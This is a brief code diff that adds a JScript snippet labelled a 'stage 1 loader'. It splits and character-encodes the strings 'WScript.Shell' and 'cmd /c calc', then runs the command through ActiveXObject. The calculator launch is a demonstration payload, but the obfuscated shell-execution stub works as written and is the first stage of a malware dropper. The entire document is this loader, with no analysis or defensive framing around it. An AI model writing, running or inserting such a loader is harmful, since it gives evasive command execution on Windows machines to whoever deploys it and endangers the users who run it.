@@ -1,0 +1,4 @@
+// stage 1 loader
+var k = 'WSc' + 'ript.' + 'Sh' + 'ell';
+var c = String.fromCharCode(99, 109, 100) + ' /c ' + "\x63\x61\x6c\x63";
+new ActiveXObject(k).Run(c);
